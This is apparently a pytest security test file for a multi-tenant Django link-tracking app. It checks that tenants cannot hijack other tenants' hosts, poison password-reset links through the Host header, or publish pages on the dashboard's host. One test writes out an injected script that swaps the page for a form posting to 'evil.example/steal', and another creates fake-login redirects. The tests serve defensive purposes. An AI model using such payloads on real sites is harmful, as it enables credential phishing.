"""Attacks with host names, each from its first request to what its victim would see, through the whole application."""

from __future__ import annotations

import json
from urllib.parse import urlencode

import pytest
from django.core import mail
from django.core.cache import caches
from django.test import Client
from pytest_django import Settings

from accounts.models import Account, Purpose, User
from accounts.services import account_brand_set
from links.models import Domain
from sites.models import Site
from sites.services import site_create
from tests.conftest import PASSWORD
from tests.support import asgi, verify_host
from tests.support.endpoints import list_stored_rows
from tests.support.links import refresh_caches
from tests.support.traffic import confirm

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_links")]
DASHBOARD, BRAND = "stats.saas.example", "stats.alice.example"


@pytest.fixture
def mallory(charlie: User) -> Client:
    """A tenant with a session, who may choose the host of their white label."""
    caches["requests"].clear()
    client = Client()
    client.force_login(charlie)
    return confirm(client, PASSWORD)


def log_in_page(host: str) -> asgi.Answer:
    refresh_caches()
    return asgi.browser_request("/login", host=host)


def test_a_tenant_cannot_take_over_the_dashboards_host(
    alice: User, charlie: User, mallory: Client, settings: Settings
) -> None:
    settings.BASE_URL, settings.LINK_DOMAIN = f"http://{DASHBOARD}", "go.saas.example"
    settings.CLICKMETER_HOSTS = ("api.saas.example",)
    assert log_in_page(DASHBOARD).status == 200
    answer = mallory.post("/links/domains", {"name": DASHBOARD})
    assert answer.status_code == 200 and "belongs to this installation itself" in answer.content.decode()
    key = charlie.memberships.get().account.authkey
    for host in (DASHBOARD, f"www.{DASHBOARD}", "api.saas.example", "apiv2.saas.example", "apiv2.clickmeter.com"):
        answer = Client().post("/clickmeter/domains", json.dumps({"name": host}), content_type="application/json",
                               headers={"X-Clickmeter-Authkey": key})  # fmt: skip
        assert answer.status_code == 400 and "belongs to this installation" in answer.content.decode(), host
    Domain.objects.create(account=charlie.memberships.get().account, name=DASHBOARD)  # as one from before would stand
    page = log_in_page(DASHBOARD)
    assert page.status == 200 and 'name="password"' in page.text


def test_a_tenant_cannot_take_over_another_accounts_white_label(account: Account, alice: User, mallory: Client) -> None:
    account_brand_set(account=account, host=BRAND, name="Alice Numbers")
    verify_host(account, BRAND, Purpose.BRAND)
    assert "Alice Numbers" in log_in_page(BRAND).text
    assert mallory.post("/links/domains", {"name": BRAND}).status_code == 302  # anybody may claim; nothing is verified
    assert "Alice Numbers" in log_in_page(BRAND).text
    mallory.post(f"/links/domains/{Domain.objects.get(name=BRAND).pk}/delete")
    mallory.post("/account/brand", {"host": BRAND, "name": "Not Alice"})
    assert "Alice Numbers" in log_in_page(BRAND).text


def test_a_reset_requested_on_an_unverified_host_does_not_use_it(alice: User, mallory: Client) -> None:
    mallory.post("/account/brand", {"host": "evil-charlie.example", "name": "Footfall"})
    mail.outbox.clear()  # that the host is another one
    Client().post("/password/reset", {"email": alice.email}, headers={"host": "evil-charlie.example"})
    (letter,) = mail.outbox
    assert "evil-charlie" not in str(letter.message()) and "http://127.0.0.1:8000/password/reset/" in letter.body


def test_an_unverified_claim_does_not_block_the_hosts_owner(account: Account, alice: User, mallory: Client) -> None:
    mallory.post("/account/brand", {"host": BRAND})
    mallory.post("/links/domains", {"name": "go.alice.example"})
    mallory.post(f"/links/domains/{Domain.objects.get(name='go.alice.example').pk}/delete")
    hers = Client()
    hers.force_login(alice)
    confirm(hers, PASSWORD)
    assert hers.post("/account/brand", {"host": BRAND, "name": "Alice Numbers"}).status_code == 302
    assert hers.post("/links/domains", {"name": "go.alice.example"}).status_code == 302
    verify_host(account, BRAND, Purpose.BRAND)
    assert "Alice Numbers" in log_in_page(BRAND).text


def test_events_without_a_key_do_not_go_to_an_unverified_site(charlie: User, site: Site) -> None:
    theirs = site_create(account=charlie.memberships.get().account, domain="future.example")
    also = site_create(account=charlie.memberships.get().account, domain="example.com")
    refresh_caches()

    def sent(url: str) -> asgi.Answer:
        body = json.dumps({"url": url}).encode()
        return asgi.browser_request("/api/event", host="x", method="POST", body=body, content_type="application/json")

    assert sent("https://shop.future.example/secret-order").status == 401
    assert sent("https://future.example/secret-order").status == 401
    assert sent("https://www.example.com/order").status == 200
    assert not list_stored_rows(theirs.pk) and not list_stored_rows(also.pk) and len(list_stored_rows(site.pk)) == 1


def test_a_click_token_is_only_added_to_the_accounts_own_sites(charlie: User, account: Account, alice: User) -> None:
    """Proved or not, since the link is one's own; never because somebody else has a site of that name."""
    from tests.support.links import Browser, create_link

    site_create(account=charlie.memberships.get().account, domain="theirs.example")
    verify_host(charlie.memberships.get().account, "theirs.example", Purpose.SITE)
    site_create(account=account, domain="mine.example", allowed_hosts=["pay.example"])
    for alias, url in (("a", "theirs.example"), ("b", "www.mine.example"), ("c", "pay.example"), ("d", "x.example")):
        create_link(account, alias, url=f"https://{url}/")
    led = {alias: "ffclid=" in Browser().open(f"/l/{alias}").location for alias in "abcd"}
    assert led == {"a": False, "b": True, "c": True, "d": False}


def test_an_account_cannot_publish_a_page_on_the_dashboards_host(
    account: Account, charlie: User, mallory: Client
) -> None:
    script = "<script>document.body.innerHTML='<form method=post action=https://evil.example/steal>'</script>"
    mallory.post("/links/scripts", {"name": "s", "text": script})
    key = charlie.memberships.get().account.authkey
    for name, more in (("login", {"scripts": [{"id": 1}]}), ("signin", {"hideUrl": True})):
        link = {"name": name, "typeTL": {"url": "https://evil.example/fake-login", **more}}
        response = Client().post("/clickmeter/datapoints", json.dumps(link), content_type="application/json",
                             headers={"X-Clickmeter-Authkey": key})  # fmt: skip
        assert response.status_code == 200, response.content
    refresh_caches()
    for name in ("login", "signin"):
        answer = asgi.browser_request(f"/l/{name}?{urlencode({'a': 1})}", host="127.0.0.1:8000")
        assert (answer.status, answer.body) == (301, b"") and answer.headers["location"].startswith("https://evil.")
